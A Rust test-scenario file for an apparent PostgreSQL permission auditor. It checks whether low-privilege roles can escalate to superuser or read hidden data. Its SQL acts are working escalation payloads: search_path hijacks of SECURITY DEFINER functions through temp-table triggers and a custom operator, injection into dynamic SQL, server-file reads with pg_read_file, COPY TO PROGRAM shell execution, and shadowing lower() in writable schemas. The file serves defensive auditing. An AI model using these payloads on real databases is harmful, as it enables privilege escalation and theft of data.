//! Names that are looked up where somebody else may put things.

use pgward_audit::paths::graph::Sink;
use pgward_audit::paths::mechanism::Mechanism;
use pgward_audit::rule::Versions;

use crate::scenario::{Act, Claim, End, NONE, Scenario};

pub(crate) const SCENARIOS: &[Scenario] = &[
    Scenario {
        name: "definer_no_path",
        claim: Claim::Edge(Mechanism::DefinerSearchPath, End::Sink(Sink::Superuser)),
        from: End::Public,
        own_database: true,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN definer_no_path_low;
            CREATE TABLE definer_no_path_log (v text);
            CREATE FUNCTION definer_no_path_f() RETURNS void LANGUAGE plpgsql SECURITY DEFINER  AS $$ BEGIN INSERT INTO definer_no_path_log VALUES ('called'); END $$;
        "#,
        acts: &[
            Act::Low(
                "definer_no_path_low",
                r#"CREATE TEMP TABLE definer_no_path_log (v text); CREATE FUNCTION pg_temp.grab() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM kit.grab('definer_no_path_low'); RETURN NEW; END $$; CREATE TRIGGER grab BEFORE INSERT ON definer_no_path_log FOR EACH ROW EXECUTE FUNCTION pg_temp.grab(); SELECT definer_no_path_f()"#,
            ),
            Act::IsSuperuser("definer_no_path_low"),
        ],
    },
    Scenario {
        name: "definer_no_temp",
        claim: Claim::Edge(Mechanism::DefinerSearchPath, End::Sink(Sink::Superuser)),
        from: End::Public,
        own_database: true,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN definer_no_temp_low;
            CREATE TABLE definer_no_temp_log (v text);
            CREATE FUNCTION definer_no_temp_f() RETURNS void LANGUAGE plpgsql SECURITY DEFINER SET search_path = public AS $$ BEGIN INSERT INTO definer_no_temp_log VALUES ('called'); END $$;
        "#,
        acts: &[
            Act::Low(
                "definer_no_temp_low",
                r#"CREATE TEMP TABLE definer_no_temp_log (v text); CREATE FUNCTION pg_temp.grab() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM kit.grab('definer_no_temp_low'); RETURN NEW; END $$; CREATE TRIGGER grab BEFORE INSERT ON definer_no_temp_log FOR EACH ROW EXECUTE FUNCTION pg_temp.grab(); SELECT definer_no_temp_f()"#,
            ),
            Act::IsSuperuser("definer_no_temp_low"),
        ],
    },
    Scenario {
        name: "definer_sound",
        claim: Claim::Edge(Mechanism::DefinerSearchPath, End::Sink(Sink::Superuser)),
        from: End::Public,
        own_database: true,
        applies: Versions::ALL,
        works: NONE,
        scene: r#"
            LOGIN definer_sound_low;
            REVOKE CREATE ON SCHEMA public FROM PUBLIC;
            CREATE TABLE definer_sound_log (v text);
            CREATE FUNCTION definer_sound_f() RETURNS void LANGUAGE plpgsql SECURITY DEFINER SET search_path = public, pg_temp AS $$ BEGIN INSERT INTO definer_sound_log VALUES ('called'); END $$;
        "#,
        acts: &[
            Act::Low(
                "definer_sound_low",
                r#"CREATE TEMP TABLE definer_sound_log (v text); CREATE FUNCTION pg_temp.grab() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM kit.grab('definer_sound_low'); RETURN NEW; END $$; CREATE TRIGGER grab BEFORE INSERT ON definer_sound_log FOR EACH ROW EXECUTE FUNCTION pg_temp.grab(); SELECT definer_sound_f()"#,
            ),
            Act::IsSuperuser("definer_sound_low"),
        ],
    },
    Scenario {
        name: "definer_role",
        claim: Claim::Edge(Mechanism::DefinerSearchPath, End::Role("definer_role_owner")),
        from: End::Role("definer_role_low"),
        own_database: false,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN definer_role_low;
            CREATE ROLE definer_role_owner; CREATE SCHEMA definer_role AUTHORIZATION definer_role_owner; GRANT USAGE ON SCHEMA definer_role TO definer_role_low;
            CREATE TABLE definer_role.secret (v text); ALTER TABLE definer_role.secret OWNER TO definer_role_owner; INSERT INTO definer_role.secret VALUES ('hidden');
            CREATE TABLE definer_role.log (v text); ALTER TABLE definer_role.log OWNER TO definer_role_owner;
            CREATE FUNCTION definer_role.f() RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN INSERT INTO log VALUES ('x'); END $$;
            ALTER FUNCTION definer_role.f() OWNER TO definer_role_owner; REVOKE EXECUTE ON FUNCTION definer_role.f() FROM PUBLIC; GRANT EXECUTE ON FUNCTION definer_role.f() TO definer_role_low;
        "#,
        acts: &[Act::LowSees(
            "definer_role_low",
            r#"CREATE TEMP TABLE log (v text); CREATE TEMP TABLE loot (v text); GRANT INSERT ON loot TO PUBLIC; CREATE FUNCTION pg_temp.grab() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN INSERT INTO pg_temp.loot SELECT v FROM definer_role.secret; RETURN NEW; END $$; CREATE TRIGGER grab BEFORE INSERT ON log FOR EACH ROW EXECUTE FUNCTION pg_temp.grab(); GRANT INSERT ON log TO PUBLIC; DO $$ BEGIN PERFORM definer_role.f(); END $$; SELECT v FROM loot"#,
            r#"hidden"#,
        )],
    },
    Scenario {
        name: "definer_uncallable",
        claim: Claim::Edge(Mechanism::DefinerSearchPath, End::Sink(Sink::Superuser)),
        from: End::Public,
        own_database: true,
        applies: Versions::ALL,
        works: NONE,
        scene: r#"
            LOGIN definer_uncallable_low;
            CREATE TABLE definer_uncallable_log (v text);
            CREATE FUNCTION definer_uncallable_f() RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN INSERT INTO definer_uncallable_log VALUES ('called'); END $$;
            REVOKE EXECUTE ON FUNCTION definer_uncallable_f() FROM PUBLIC;
        "#,
        acts: &[
            Act::Low(
                "definer_uncallable_low",
                r#"CREATE TEMP TABLE definer_uncallable_log (v text); CREATE FUNCTION pg_temp.grab() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM kit.grab('definer_uncallable_low'); RETURN NEW; END $$; CREATE TRIGGER grab BEFORE INSERT ON definer_uncallable_log FOR EACH ROW EXECUTE FUNCTION pg_temp.grab(); SELECT definer_uncallable_f()"#,
            ),
            Act::IsSuperuser("definer_uncallable_low"),
        ],
    },
    Scenario {
        name: "definer_by_public",
        claim: Claim::Edge(Mechanism::DefinerSearchPath, End::Role("definer_by_public_owner")),
        from: End::Role("definer_by_public_low"),
        own_database: false,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN definer_by_public_low;
            CREATE ROLE definer_by_public_owner; CREATE SCHEMA definer_by_public AUTHORIZATION definer_by_public_owner; GRANT USAGE ON SCHEMA definer_by_public TO definer_by_public_low;
            CREATE TABLE definer_by_public.secret (v text); ALTER TABLE definer_by_public.secret OWNER TO definer_by_public_owner; INSERT INTO definer_by_public.secret VALUES ('hidden');
            CREATE TABLE definer_by_public.log (v text); ALTER TABLE definer_by_public.log OWNER TO definer_by_public_owner;
            CREATE FUNCTION definer_by_public.f() RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN INSERT INTO log VALUES ('x'); END $$;
            ALTER FUNCTION definer_by_public.f() OWNER TO definer_by_public_owner;
        "#,
        acts: &[Act::LowSees(
            "definer_by_public_low",
            r#"CREATE TEMP TABLE log (v text); CREATE TEMP TABLE loot (v text); GRANT INSERT ON loot TO PUBLIC; CREATE FUNCTION pg_temp.grab() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN INSERT INTO pg_temp.loot SELECT v FROM definer_by_public.secret; RETURN NEW; END $$; CREATE TRIGGER grab BEFORE INSERT ON log FOR EACH ROW EXECUTE FUNCTION pg_temp.grab(); GRANT INSERT ON log TO PUBLIC; DO $$ BEGIN PERFORM definer_by_public.f(); END $$; SELECT v FROM loot"#,
            r#"hidden"#,
        )],
    },
    Scenario {
        name: "definer_dynamic",
        claim: Claim::Edge(Mechanism::DefinerDynamicSql, End::Role("definer_dynamic_owner")),
        from: End::Role("definer_dynamic_low"),
        own_database: false,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN definer_dynamic_low;
            CREATE ROLE definer_dynamic_owner; CREATE SCHEMA definer_dynamic AUTHORIZATION definer_dynamic_owner; GRANT USAGE ON SCHEMA definer_dynamic TO definer_dynamic_low;
            CREATE TABLE definer_dynamic.secret (v text); ALTER TABLE definer_dynamic.secret OWNER TO definer_dynamic_owner; INSERT INTO definer_dynamic.secret VALUES ('hidden');
            CREATE FUNCTION definer_dynamic.f(text) RETURNS text LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ DECLARE found text; BEGIN EXECUTE $1 INTO found; RETURN found; END $$;
            ALTER FUNCTION definer_dynamic.f(text) OWNER TO definer_dynamic_owner;
        "#,
        acts: &[Act::LowSees(
            "definer_dynamic_low",
            r#"SELECT definer_dynamic.f('SELECT v FROM definer_dynamic.secret')"#,
            r#"hidden"#,
        )],
    },
    Scenario {
        name: "definer_dynamic_closed",
        claim: Claim::Edge(Mechanism::DefinerDynamicSql, End::Role("definer_dynamic_closed_owner")),
        from: End::Role("definer_dynamic_closed_low"),
        own_database: false,
        applies: Versions::ALL,
        works: NONE,
        scene: r#"
            LOGIN definer_dynamic_closed_low;
            CREATE ROLE definer_dynamic_closed_owner; CREATE SCHEMA definer_dynamic_closed AUTHORIZATION definer_dynamic_closed_owner;
            CREATE TABLE definer_dynamic_closed.secret (v text); ALTER TABLE definer_dynamic_closed.secret OWNER TO definer_dynamic_closed_owner; INSERT INTO definer_dynamic_closed.secret VALUES ('hidden');
            CREATE FUNCTION definer_dynamic_closed.f(text) RETURNS text LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ DECLARE found text; BEGIN EXECUTE $1 INTO found; RETURN found; END $$;
            ALTER FUNCTION definer_dynamic_closed.f(text) OWNER TO definer_dynamic_closed_owner;
        "#,
        acts: &[Act::LowSees(
            "definer_dynamic_closed_low",
            r#"SELECT definer_dynamic_closed.f('SELECT v FROM definer_dynamic_closed.secret')"#,
            r#"hidden"#,
        )],
    },
    Scenario {
        name: "definer_dynamic_quoted",
        claim: Claim::Edge(Mechanism::DefinerDynamicSql, End::Role("definer_dynamic_quoted_owner")),
        from: End::Role("definer_dynamic_quoted_low"),
        own_database: false,
        applies: Versions::ALL,
        works: NONE,
        scene: r#"
            LOGIN definer_dynamic_quoted_low;
            CREATE ROLE definer_dynamic_quoted_owner; CREATE SCHEMA definer_dynamic_quoted AUTHORIZATION definer_dynamic_quoted_owner; GRANT USAGE ON SCHEMA definer_dynamic_quoted TO definer_dynamic_quoted_low;
            CREATE TABLE definer_dynamic_quoted.secret (v text); ALTER TABLE definer_dynamic_quoted.secret OWNER TO definer_dynamic_quoted_owner; INSERT INTO definer_dynamic_quoted.secret VALUES ('hidden');
            CREATE FUNCTION definer_dynamic_quoted.f(text) RETURNS text LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ DECLARE found text; BEGIN EXECUTE format('SELECT %L', $1) INTO found; RETURN found; END $$;
            ALTER FUNCTION definer_dynamic_quoted.f(text) OWNER TO definer_dynamic_quoted_owner;
        "#,
        acts: &[Act::LowSees(
            "definer_dynamic_quoted_low",
            r#"SELECT definer_dynamic_quoted.f($q$'; SELECT v FROM definer_dynamic_quoted.secret --$q$)"#,
            r#"hidden"#,
        )],
    },
    Scenario {
        name: "definer_nothing_named",
        claim: Claim::Edge(Mechanism::DefinerSearchPath, End::Sink(Sink::Superuser)),
        from: End::Public,
        own_database: true,
        applies: Versions::ALL,
        works: NONE,
        scene: r#"
            LOGIN definer_nothing_named_low;
            CREATE SCHEMA definer_nothing_named_s AUTHORIZATION definer_nothing_named_low;
            CREATE TABLE public.definer_nothing_named_t (v int);
            CREATE FUNCTION definer_nothing_named_f() RETURNS bigint LANGUAGE sql SECURITY DEFINER AS $$ SELECT pg_catalog.count(*) FROM public.definer_nothing_named_t $$;
            CREATE FUNCTION definer_nothing_named_g() RETURNS int LANGUAGE sql SECURITY DEFINER SET search_path = definer_nothing_named_s AS 'SELECT 1';
        "#,
        acts: &[
            Act::Low(
                "definer_nothing_named_low",
                r#"CREATE FUNCTION definer_nothing_named_s.count() RETURNS bigint LANGUAGE plpgsql AS $$ BEGIN PERFORM kit.grab('definer_nothing_named_low'); RETURN 1; END $$; CREATE TEMP TABLE definer_nothing_named_t (v int); SET search_path = definer_nothing_named_s, pg_temp, public, pg_catalog; SELECT public.definer_nothing_named_f(), public.definer_nothing_named_g()"#,
            ),
            Act::IsSuperuser("definer_nothing_named_low"),
        ],
    },
    Scenario {
        name: "definer_operator",
        claim: Claim::Edge(Mechanism::DefinerSearchPath, End::Sink(Sink::Superuser)),
        from: End::Public,
        own_database: true,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN definer_operator_low;
            CREATE SCHEMA definer_operator_s AUTHORIZATION definer_operator_low;
            CREATE FUNCTION definer_operator_f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1 + 1';
        "#,
        acts: &[
            Act::Low(
                "definer_operator_low",
                r#"CREATE FUNCTION definer_operator_s.grab(int, int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN PERFORM kit.grab('definer_operator_low'); RETURN 1; END $$; CREATE OPERATOR definer_operator_s.+ (LEFTARG = int, RIGHTARG = int, FUNCTION = definer_operator_s.grab); SET search_path = definer_operator_s, pg_catalog; SELECT public.definer_operator_f()"#,
            ),
            Act::IsSuperuser("definer_operator_low"),
        ],
    },
    Scenario {
        name: "definer_reads_files",
        claim: Claim::Edge(Mechanism::DefinerFiles, End::Sink(Sink::ServerFiles)),
        from: End::Role("definer_reads_files_low"),
        own_database: false,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN definer_reads_files_low;
            CREATE SCHEMA definer_reads_files; GRANT USAGE ON SCHEMA definer_reads_files TO definer_reads_files_low;
            CREATE FUNCTION definer_reads_files.f(p text) RETURNS text LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS 'SELECT pg_read_file(p)';
        "#,
        acts: &[Act::LowSees(
            "definer_reads_files_low",
            r#"SELECT definer_reads_files.f('postgresql.conf') LIKE '%max_connections%'"#,
            r#"t"#,
        )],
    },
    Scenario {
        name: "definer_reads_bytes",
        claim: Claim::Edge(Mechanism::DefinerFiles, End::Sink(Sink::AllRead)),
        from: End::Role("definer_reads_bytes_low"),
        own_database: false,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN definer_reads_bytes_low;
            CREATE SCHEMA definer_reads_bytes; GRANT USAGE ON SCHEMA definer_reads_bytes TO definer_reads_bytes_low;
            CREATE TABLE definer_reads_bytes.t (v text); INSERT INTO definer_reads_bytes.t VALUES ('in a file'); CHECKPOINT;
            CREATE FUNCTION definer_reads_bytes.f(p text) RETURNS bytea LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ BEGIN RETURN pg_read_binary_file(p); END $$;
        "#,
        acts: &[Act::LowSees(
            "definer_reads_bytes_low",
            r#"SELECT position('in a file'::bytea in definer_reads_bytes.f(pg_relation_filepath('definer_reads_bytes.t'))) > 0"#,
            r#"t"#,
        )],
    },
    Scenario {
        name: "definer_runs_program",
        claim: Claim::Edge(Mechanism::DefinerFiles, End::Sink(Sink::OsCommand)),
        from: End::Role("definer_runs_program_low"),
        own_database: false,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN definer_runs_program_low;
            CREATE ROLE definer_runs_program_owner; GRANT pg_execute_server_program TO definer_runs_program_owner;
            CREATE SCHEMA definer_runs_program; GRANT USAGE ON SCHEMA definer_runs_program TO definer_runs_program_low;
            CREATE FUNCTION definer_runs_program.f(p text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ BEGIN EXECUTE format('COPY (SELECT 1) TO PROGRAM %L', p); END $$;
            ALTER FUNCTION definer_runs_program.f(text) OWNER TO definer_runs_program_owner;
        "#,
        acts: &[
            Act::Low(
                "definer_runs_program_low",
                r#"SELECT definer_runs_program.f('cat > {data}/definer_runs_program_was_here')"#,
            ),
            Act::Wrote(r#"{data}/definer_runs_program_was_here"#),
        ],
    },
    Scenario {
        name: "definer_fixed_file",
        claim: Claim::Edge(Mechanism::DefinerFiles, End::Sink(Sink::ServerFiles)),
        from: End::Role("definer_fixed_file_low"),
        own_database: false,
        applies: Versions::ALL,
        works: NONE,
        scene: r#"
            LOGIN definer_fixed_file_low;
            CREATE SCHEMA definer_fixed_file; GRANT USAGE ON SCHEMA definer_fixed_file TO definer_fixed_file_low;
            CREATE FUNCTION definer_fixed_file.f(p text) RETURNS text LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ SELECT pg_read_file('PG_VERSION') || p $$;
        "#,
        acts: &[Act::LowSees(
            "definer_fixed_file_low",
            r#"SELECT definer_fixed_file.f('postgresql.conf') LIKE '%max_connections%'"#,
            r#"t"#,
        )],
    },
    Scenario {
        name: "search_path_public",
        claim: Claim::Edge(Mechanism::SearchPathSchema, End::Sink(Sink::Superuser)),
        from: End::Role("search_path_public_low"),
        own_database: true,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN search_path_public_low;
            GRANT CREATE ON SCHEMA public TO search_path_public_low; REVOKE CREATE ON SCHEMA public FROM PUBLIC;
            CREATE TABLE search_path_public_t (v varchar); INSERT INTO search_path_public_t VALUES ('x');
        "#,
        acts: &[
            Act::Low(
                "search_path_public_low",
                r#"CREATE FUNCTION public.lower(varchar) RETURNS text LANGUAGE plpgsql AS $$ BEGIN PERFORM kit.grab('search_path_public_low'); RETURN $1; END $$"#,
            ),
            Act::Superuser(r#"SELECT lower(v) FROM search_path_public_t"#),
            Act::IsSuperuser("search_path_public_low"),
        ],
    },
    Scenario {
        name: "search_path_default",
        claim: Claim::Edge(Mechanism::SearchPathSchema, End::Sink(Sink::Superuser)),
        from: End::Public,
        own_database: true,
        applies: Versions::ALL,
        works: Versions::until(14),
        scene: r#"
            LOGIN search_path_default_low;
            
            CREATE TABLE search_path_default_t (v varchar); INSERT INTO search_path_default_t VALUES ('x');
        "#,
        acts: &[
            Act::Low(
                "search_path_default_low",
                r#"CREATE FUNCTION public.lower(varchar) RETURNS text LANGUAGE plpgsql AS $$ BEGIN PERFORM kit.grab('search_path_default_low'); RETURN $1; END $$"#,
            ),
            Act::Superuser(r#"SELECT lower(v) FROM search_path_default_t"#),
            Act::IsSuperuser("search_path_default_low"),
        ],
    },
    Scenario {
        name: "search_path_catalog",
        claim: Claim::Edge(Mechanism::SearchPathSchema, End::Sink(Sink::Superuser)),
        from: End::Role("search_path_catalog_low"),
        own_database: true,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN search_path_catalog_low;
            GRANT CREATE ON SCHEMA pg_catalog TO search_path_catalog_low;
            CREATE TABLE search_path_catalog_t (v varchar); INSERT INTO search_path_catalog_t VALUES ('x');
        "#,
        acts: &[
            Act::Low(
                "search_path_catalog_low",
                r#"CREATE FUNCTION pg_catalog.lower(varchar) RETURNS text LANGUAGE plpgsql AS $$ BEGIN PERFORM kit.grab('search_path_catalog_low'); RETURN $1; END $$"#,
            ),
            Act::Superuser(r#"SET search_path = ''; SELECT lower(v) FROM public.search_path_catalog_t"#),
            Act::IsSuperuser("search_path_catalog_low"),
        ],
    },
    Scenario {
        name: "search_path_owned",
        claim: Claim::Edge(Mechanism::SearchPathSchema, End::Sink(Sink::Superuser)),
        from: End::Role("search_path_owned_low"),
        own_database: true,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN search_path_owned_low;
            CREATE SCHEMA search_path_owned AUTHORIZATION search_path_owned_low;
            ALTER ROLE postgres IN DATABASE search_path_owned SET search_path = search_path_owned, pg_catalog;
            CREATE TABLE public.search_path_owned_t (v varchar); INSERT INTO public.search_path_owned_t VALUES ('x');
        "#,
        acts: &[
            Act::Low(
                "search_path_owned_low",
                r#"CREATE FUNCTION search_path_owned.lower(varchar) RETURNS text LANGUAGE plpgsql AS $$ BEGIN PERFORM kit.grab('search_path_owned_low'); RETURN $1; END $$"#,
            ),
            Act::Superuser(r#"SELECT lower(v) FROM public.search_path_owned_t"#),
            Act::IsSuperuser("search_path_owned_low"),
        ],
    },
    Scenario {
        name: "search_path_elsewhere",
        claim: Claim::Edge(Mechanism::SearchPathSchema, End::Sink(Sink::Superuser)),
        from: End::Role("search_path_elsewhere_low"),
        own_database: true,
        applies: Versions::ALL,
        works: NONE,
        scene: r#"
            LOGIN search_path_elsewhere_low;
            CREATE SCHEMA elsewhere; GRANT USAGE, CREATE ON SCHEMA elsewhere TO search_path_elsewhere_low;
            CREATE TABLE search_path_elsewhere_t (v varchar); INSERT INTO search_path_elsewhere_t VALUES ('x');
        "#,
        acts: &[
            Act::Low(
                "search_path_elsewhere_low",
                r#"CREATE FUNCTION elsewhere.lower(varchar) RETURNS text LANGUAGE plpgsql AS $$ BEGIN PERFORM kit.grab('search_path_elsewhere_low'); RETURN $1; END $$"#,
            ),
            Act::Superuser(r#"SELECT lower(v) FROM search_path_elsewhere_t"#),
            Act::IsSuperuser("search_path_elsewhere_low"),
        ],
    },
    Scenario {
        name: "database_owner",
        claim: Claim::Edge(Mechanism::DatabaseOwner, End::Sink(Sink::Superuser)),
        from: End::Role("database_owner_low"),
        own_database: true,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN database_owner_low;
            ALTER DATABASE database_owner OWNER TO database_owner_low;
        "#,
        acts: &[
            Act::Low(
                "database_owner_low",
                r#"CREATE SCHEMA evil; CREATE FUNCTION evil.lower(text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN PERFORM kit.grab('database_owner_low'); RETURN $1; END $$; ALTER DATABASE database_owner SET search_path = evil, pg_catalog"#,
            ),
            Act::Superuser(r#"SELECT lower('x'::text)"#),
            Act::IsSuperuser("database_owner_low"),
        ],
    },
    Scenario {
        name: "database_not_owner",
        claim: Claim::Edge(Mechanism::DatabaseOwner, End::Sink(Sink::Superuser)),
        from: End::Role("database_not_owner_low"),
        own_database: true,
        applies: Versions::ALL,
        works: NONE,
        scene: r#"
            LOGIN database_not_owner_low;
            GRANT CREATE ON DATABASE database_not_owner TO database_not_owner_low;
        "#,
        acts: &[Act::Low(
            "database_not_owner_low",
            r#"ALTER DATABASE database_not_owner SET search_path = evil, pg_catalog"#,
        )],
    },
];
